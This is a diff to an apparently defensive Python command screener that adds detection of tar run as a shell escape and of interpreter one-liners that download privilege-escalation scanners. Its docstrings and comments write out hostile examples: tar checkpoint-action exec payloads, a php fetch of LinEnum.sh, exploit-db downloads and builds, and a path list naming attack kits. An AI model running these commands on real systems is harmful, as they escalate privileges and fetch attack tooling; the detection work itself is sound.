@@ -1115,6 +1115,36 @@ def _find_shell_escape(invocation: Invocation) -> Verdict | None:
     return None
 
 
+_TAR_COMMAND_OPTIONS = frozenset({"--to-command", "--use-compress-program", "-I", "--info-script",
+                                   "--new-volume-script", "-F"})  # fmt: skip
+
+
+def _tar_runs_command(invocation: Invocation) -> Verdict | None:
+    """``tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh shell.sh *``, ``tar -I 'sh -c id' -cf x
+    .``: tar made to run a command (GTFOBins' shell escape, root where tar runs under sudo or a root job's
+    glob). A checkpoint's action to run is no archiving step (``dot``, ``echo`` stay ordinary); a filter
+    (``--to-command=md5sum``, ``-I zstd``) counts only when it is a shell."""
+    if invocation.name not in ("tar", "gtar", "bsdtar"):
+        return None
+    values = _values(invocation)
+    for index, value in enumerate(values):
+        option, equals, given = value.partition("=")
+        if not equals:
+            given = values[index + 1] if index + 1 < len(values) else ""
+        if option == "--checkpoint-action" and given.startswith("exec="):
+            why = f"tar runs {given[5:]!r} at its checkpoints: a command, not an archive (a shell escape)"
+            return _verdict(PRIVILEGE, invocation, why)
+        words = given.split()
+        if (
+            option in _TAR_COMMAND_OPTIONS
+            and words
+            and words[0].rsplit("/", 1)[-1] in _PRIVILEGED_MODE_SHELLS
+        ):
+            why = f"tar {option} hands its data to a shell ({given!r}): a shell escape"
+            return _verdict(PRIVILEGE, invocation, why)
+    return None
+
+
 _ATTACK_KIT = lazy_compile(
     r"^/usr/share/(?:(?P<shells>webshells|laudanum|nishang|windows-resources|windows-binaries)"
     r"|exploitdb(?:-bin-sploits)?|peass|powersploit|mimikatz|linux-exploit-suggester|unix-privesc-check)/."
@@ -1383,6 +1413,10 @@ def _url_file(url: str) -> str:
     return url.split("?", 1)[0].split("#", 1)[0].rstrip("/").rpartition("/")[2]
 
 
+_CODE_URL = lazy_compile(r"(?:https?|ftp)://[^\s\"'`)]{1,400}")
+"""A URL in an interpreter's inline code."""
+
+
 def _exploit_fetch_or_build(invocation: Invocation) -> Verdict | None:
     """``wget https://www.exploit-db.com/exploits/37292.c -O ofs.c``, ``gcc exploit.c -o exploit``,
     ``gcc full-nelson.c -o /tmp/fn``: an exploit downloaded from an exploit archive, or a source or
@@ -1403,6 +1437,14 @@ def _exploit_fetch_or_build(invocation: Invocation) -> Verdict | None:
         if named is not None:
             why = f"downloads {named.rpartition('/')[2]}, a privilege-escalation scanner"
             return _verdict(PRIVILEGE, invocation, why)
+    code = inline_code(invocation) if INTERPRETERS.match(name) else None
+    fetched_in_code = next(
+        (u for u in _CODE_URL.findall(code or "") if _scanner(_url_file(u), fetched=True)), None
+    )
+    if fetched_in_code is not None:
+        # php -r "file_put_contents('x.sh', file_get_contents('http://IP/LinEnum.sh'));": curl's job in code
+        why = f"{name}'s code downloads {_url_file(fetched_in_code)}, a privilege-escalation scanner"
+        return _verdict(PRIVILEGE, invocation, why)
     if name == "searchsploit" and (
         {"-m", "--mirror"} & set(values)
         or any(v.startswith("-") and not v.startswith("--") and "m" in v for v in values)
@@ -2353,6 +2395,7 @@ def _findings(invocation: Invocation, home: str) -> Iterator[Verdict | None]:
     yield _exploit_files(invocation)
     yield _privileged_mode(invocation)
     yield _find_shell_escape(invocation)
+    yield _tar_runs_command(invocation)
     yield _accounts(invocation)
     yield _authorization(invocation, home)
     yield _option_named_files(invocation)
